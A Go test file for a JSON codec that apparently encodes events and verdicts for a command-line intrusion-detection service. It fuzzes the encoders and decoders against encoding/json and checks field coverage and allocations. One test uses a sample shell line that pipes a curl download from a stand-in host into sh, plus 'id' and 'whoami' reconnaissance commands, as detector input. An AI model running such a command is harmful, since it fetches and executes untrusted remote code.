package serve

import (
	"bytes"
	"encoding/json"
	"math"
	"reflect"
	"testing"

	"clmids/internal/stream"
)

// The fuzz targets' seeds are the files under testdata/fuzz: strings that
// take every branch of the encoder and the unescaper (HTML characters,
// control bytes, invalid UTF-8, U+2028/U+2029, surrogate escapes), the
// float cutoffs (1e-7, 1e21, subnormals, -0, NaN, ±Inf), and lines that
// must leave the fast paths (reordered keys, whitespace, case-folded keys,
// null, bad numbers, trailing bytes).

// jsonLine is what json.Encoder.Encode writes for v — the bytes every
// encoder in codec.go must reproduce.
func jsonLine(v any) ([]byte, error) {
	var buf bytes.Buffer
	err := json.NewEncoder(&buf).Encode(v)
	return buf.Bytes(), err
}

// FuzzAppendEvent pins AppendEvent byte-equal to json.Encoder.Encode.
func FuzzAppendEvent(f *testing.F) {
	f.Fuzz(func(t *testing.T, user string, time int64, line string) {
		ev := stream.Event{User: user, Time: time, Line: line}
		want, err := jsonLine(&ev)
		if err != nil {
			t.Fatal(err)
		}
		if got := AppendEvent(nil, &ev); !bytes.Equal(got, want) {
			t.Fatalf("AppendEvent(%+v)\n got %q\nwant %q", ev, got, want)
		}
	})
}

// FuzzAppendVerdict pins AppendVerdict byte-equal to json.Encoder.Encode,
// and for a non-finite score pins the refusal: an error and b unchanged,
// where json.Encoder writes nothing.
func FuzzAppendVerdict(f *testing.F) {
	f.Fuzz(func(t *testing.T, user string, time int64, line, context string, ls, cs, ss float64, n int, la, sa bool) {
		v := stream.Verdict{User: user, Time: time, Line: line, Context: context,
			LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: n, LineAlert: la, SessionAlert: sa}
		want, jsonErr := jsonLine(&v)
		prefix := []byte("prior\n")
		got, err := AppendVerdict(prefix, &v)
		if (err != nil) != (jsonErr != nil) {
			t.Fatalf("AppendVerdict error %v, json.Encoder error %v", err, jsonErr)
		}
		if err != nil {
			if string(got) != "prior\n" {
				t.Fatalf("AppendVerdict wrote %q on error", got)
			}
			return
		}
		if !bytes.Equal(got[len(prefix):], want) {
			t.Fatalf("AppendVerdict(%+v)\n got %q\nwant %q", v, got[len(prefix):], want)
		}
	})
}

// FuzzDecodeEvent pins DecodeEvent to json.Unmarshal on arbitrary bytes:
// the same Event, and the same error, text included.
func FuzzDecodeEvent(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		var want, got stream.Event
		wantErr := json.Unmarshal(data, &want)
		err := DecodeEvent(data, &got)
		if (err == nil) != (wantErr == nil) || (err != nil && err.Error() != wantErr.Error()) {
			t.Fatalf("DecodeEvent(%q) error %v, json.Unmarshal error %v", data, err, wantErr)
		}
		if got != want {
			t.Fatalf("DecodeEvent(%q) = %+v, json.Unmarshal = %+v", data, got, want)
		}
	})
}

// FuzzDecodeVerdict pins DecodeVerdict two ways: it decodes everything
// AppendVerdict writes, to what json.Unmarshal decodes; and on arbitrary
// bytes it accepts nothing json.Unmarshal rejects or reads differently.
func FuzzDecodeVerdict(f *testing.F) {
	f.Fuzz(func(t *testing.T, user string, time int64, line, context string, ls, cs, ss float64, n int, la, sa bool, raw []byte) {
		v := stream.Verdict{User: user, Time: time, Line: line, Context: context,
			LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: n, LineAlert: la, SessionAlert: sa}
		if enc, err := AppendVerdict(nil, &v); err == nil {
			line := enc[:len(enc)-1]
			var want, got stream.Verdict
			if err := json.Unmarshal(line, &want); err != nil {
				t.Fatalf("json.Unmarshal(%q): %v", line, err)
			}
			if !DecodeVerdict(line, &got) {
				t.Fatalf("DecodeVerdict rejected AppendVerdict's %q", line)
			}
			if !sameVerdict(got, want) {
				t.Fatalf("DecodeVerdict(%q) = %+v, json.Unmarshal = %+v", line, got, want)
			}
		}
		var got stream.Verdict
		if DecodeVerdict(raw, &got) {
			var want stream.Verdict
			if err := json.Unmarshal(raw, &want); err != nil {
				t.Fatalf("DecodeVerdict accepted %q, which json.Unmarshal rejects: %v", raw, err)
			}
			if !sameVerdict(got, want) {
				t.Fatalf("DecodeVerdict(%q) = %+v, json.Unmarshal = %+v", raw, got, want)
			}
		}
	})
}

// sameVerdict is == with floats compared bit for bit, so -0 and 0 differ.
func sameVerdict(a, b stream.Verdict) bool {
	return a == b && math.Float64bits(a.LineScore) == math.Float64bits(b.LineScore) &&
		math.Float64bits(a.ContextScore) == math.Float64bits(b.ContextScore) &&
		math.Float64bits(a.SessionScore) == math.Float64bits(b.SessionScore)
}

// fillFields sets every field of the struct v points to a non-zero value,
// so a field the codec does not know about shows up in the JSON.
func fillFields(t *testing.T, v any) {
	rv := reflect.ValueOf(v).Elem()
	for i := 0; i < rv.NumField(); i++ {
		switch f := rv.Field(i); f.Kind() {
		case reflect.String:
			f.SetString("<" + rv.Type().Field(i).Name + ">")
		case reflect.Int, reflect.Int64:
			f.SetInt(int64(i + 1))
		case reflect.Float64:
			f.SetFloat(float64(i) + 0.25)
		case reflect.Bool:
			f.SetBool(true)
		default:
			t.Fatalf("%s.%s has kind %s, which the codec does not handle",
				rv.Type().Name(), rv.Type().Field(i).Name, f.Kind())
		}
	}
}

// The codec names every field explicitly; this fails when stream.Event or
// stream.Verdict gains a JSON field the codec would silently drop.
func TestCodecCoversEveryField(t *testing.T) {
	var ev stream.Event
	fillFields(t, &ev)
	want, _ := jsonLine(&ev)
	if got := AppendEvent(nil, &ev); !bytes.Equal(got, want) {
		t.Errorf("AppendEvent misses a field:\n got %s\nwant %s", got, want)
	}
	var dev stream.Event
	if err := DecodeEvent(want[:len(want)-1], &dev); err != nil || dev != ev {
		t.Errorf("DecodeEvent = %+v, %v; want %+v", dev, err, ev)
	}

	var v stream.Verdict
	fillFields(t, &v)
	want, _ = jsonLine(&v)
	got, err := AppendVerdict(nil, &v)
	if err != nil || !bytes.Equal(got, want) {
		t.Errorf("AppendVerdict misses a field:\n got %s\nwant %s", got, want)
	}
	var dv stream.Verdict
	if !DecodeVerdict(want[:len(want)-1], &dv) || dv != v {
		t.Errorf("DecodeVerdict = %+v; want %+v", dv, v)
	}
}

// Encoding into a buffer that already has room allocates nothing.
func TestAppendAllocs(t *testing.T) {
	ev := stream.Event{User: "alice", Time: 1_700_000_000, Line: `curl http://x/<a>&b | sh`}
	v := stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, Context: "id\nwhoami",
		LineScore: 0.25, ContextScore: 1e-7, SessionScore: 3e21, SessionLines: 4, LineAlert: true}
	buf := make([]byte, 0, 4096)
	if n := testing.AllocsPerRun(100, func() { buf = AppendEvent(buf[:0], &ev) }); n != 0 {
		t.Errorf("AppendEvent: %v allocs/op, want 0", n)
	}
	if n := testing.AllocsPerRun(100, func() { buf, _ = AppendVerdict(buf[:0], &v) }); n != 0 {
		t.Errorf("AppendVerdict: %v allocs/op, want 0", n)
	}
}
